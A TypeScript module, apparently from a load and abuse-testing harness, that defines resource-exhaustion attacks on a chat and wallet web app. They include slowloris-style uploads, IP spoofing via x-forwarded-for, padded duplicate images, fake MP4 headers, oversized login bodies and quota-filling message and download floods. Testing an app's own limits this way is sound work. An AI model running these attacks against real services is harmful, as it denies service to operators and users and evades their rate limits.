import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { ask, askAs, repeat, times, type Attack } from './target.ts'

const boundary = 'xyzzy'

/** Two uploads of each member that send a byte every few seconds. */
export const slowUploads: Attack = async (target) => {
  const { hostname, port } = new URL(target.app)
  const sockets = target.members.flatMap(({ token, from }) =>
    times(2, () => {
      const socket = connect({ host: hostname, port: Number(port) }, () =>
        socket.write(
          `POST /api/chat/upload-video HTTP/1.1\r\nhost: house\r\nx-forwarded-for: ${from}\r\nauthorization: Bearer ${token}\r\n` +
            `content-type: multipart/form-data; boundary=${boundary}\r\ncontent-length: 15000000\r\n\r\n` +
            `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="a.mp4"\r\ncontent-type: video/mp4\r\n\r\n`,
        ),
      )
      socket.on('error', () => socket.destroy())
      socket.resume()
      return socket
    }),
  )
  const timer = setInterval(() => {
    for (const socket of sockets) if (!socket.destroyed) socket.write('a')
  }, 3_000)
  await sleep(target.seconds * 1_000)
  clearInterval(timer)
  for (const socket of sockets) socket.destroy()
}

/** Pictures with as many pixels as are allowed and no content, as slips of one member or of each. */
export const noisySlips =
  (picture: () => Promise<Buffer>, perMember: number): Attack =>
  async (target) => {
    const bytes = new Uint8Array(await picture())
    await Promise.all(
      target.members.map(async ({ token, from }) => {
        for (let n = 0; n < perMember; n += 1) {
          const form = new FormData()
          // One byte appended to the picture makes it another file.
          form.set('file', new Blob([bytes, String(n)], { type: 'image/png' }), 'slip.png')
          await fetch(`${target.app}/api/wallet/slip`, {
            method: 'POST',
            body: form,
            headers: { authorization: `Bearer ${token}`, 'x-forwarded-for': from },
          }).catch(() => null)
        }
      }),
    )
    await repeat(target, () => sleep(100))
  }

const mb = 1024 * 1024
const text = (message: string) => ({ message: { message_type: 'text', payload: { message } } })
const long = 'ก'.repeat(2_000)

/** The longest messages, as often as the limits allow, until the day's sum is full and beyond. */
export const longMessages: Attack = (target) =>
  repeat(target, () =>
    Promise.all(
      target.members.map((member) =>
        askAs(target, member, ['POST /api/chat/send-message', text(long)]),
      ),
    ),
  )

/**
 * Thirty visitors of one network, who begin a talk each, send the longest messages and read them again, until the day's
 * sum of their network is full and beyond.
 */
export const guestWords: Attack = async (target) => {
  const from = '45.9.9.8'
  const guests = await Promise.all(
    times(30, async () => {
      const answer = await ask(target, 'GET /api/chat/config', { from })
      return answer?.body.guestId as string | undefined
    }),
  )
  await repeat(target, () =>
    Promise.all(
      guests.flatMap((guestId) => [
        ask(target, 'POST /api/chat/send-message', { from, body: { guestId, ...text(long) } }),
        ask(target, 'POST /api/chat/history', { from, body: { guestId, limit: 100, skip: 0 } }),
      ]),
    ),
  )
}

/** One visitor's logins with the longest bodies that were ever read, most of them over the limit. */
export const longLogins: Attack = (target) => {
  const names = Object.fromEntries(times(6_000, (at) => [`name${at}`, 1]))
  return repeat(target, () =>
    Promise.all(times(40, () => ask(target, 'POST /api/login', { from: '45.9.9.9', body: names }))),
  )
}

function videoForm(): FormData {
  const bytes = new Uint8Array(19 * mb)
  // The first bytes of a video; the rest is not checked.
  bytes.set([0, 0, 0, 24, 0x66, 0x74, 0x79, 0x70, 0x69, 0x73, 0x6f, 0x6d])
  const form = new FormData()
  form.set('file', new Blob([bytes], { type: 'video/mp4' }), 'a.mp4')
  return form
}

type Sender = { token: string; from: string }

async function sendVideo(app: string, { token, from }: Sender): Promise<string | null> {
  const response = await fetch(`${app}/api/chat/upload-video`, {
    method: 'POST',
    body: videoForm(),
    headers: { authorization: `Bearer ${token}`, 'x-forwarded-for': from },
  }).catch(() => null)
  if (!response?.ok) return null
  return ((await response.json()) as { path: string }).path
}

/** Ten videos of each member, one after the other: the day's sum takes one of them. */
export const fullVideos: Attack = async ({ app, members }) => {
  await Promise.all(
    members.map(async (member) => {
      for (let n = 0; n < 10; n += 1) await sendVideo(app, member)
    }),
  )
}

/** A member's own video by forty connections at once. */
export const ownVideo: Attack = async (target) => {
  const [member] = target.members
  const path = await sendVideo(target.app, member!)
  if (path === null) throw new Error('the video was not taken')
  await repeat(target, () =>
    Promise.all(
      times(40, async () => {
        const response = await fetch(target.app + path, {
          headers: { 'x-forwarded-for': member!.from },
        }).catch(() => null)
        await response?.arrayBuffer().catch(() => null)
      }),
    ),
  )
}
